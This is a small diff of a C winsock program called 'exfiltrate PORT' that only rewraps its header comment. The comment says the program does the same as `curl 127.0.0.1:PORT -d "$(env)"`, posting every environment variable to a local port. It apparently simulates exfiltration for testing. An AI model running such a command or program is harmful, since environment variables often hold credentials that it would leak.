@@ -1,4 +1,5 @@
-// exfiltrate PORT: what `curl 127.0.0.1:PORT -d "$(env)"` does; prints `sent`, or the error of connect().
+// exfiltrate PORT: what `curl 127.0.0.1:PORT -d "$(env)"` does; prints `sent`, or the error of
+// connect().
 #include <winsock2.h>
 #include <stdio.h>
 #include <stdlib.h>
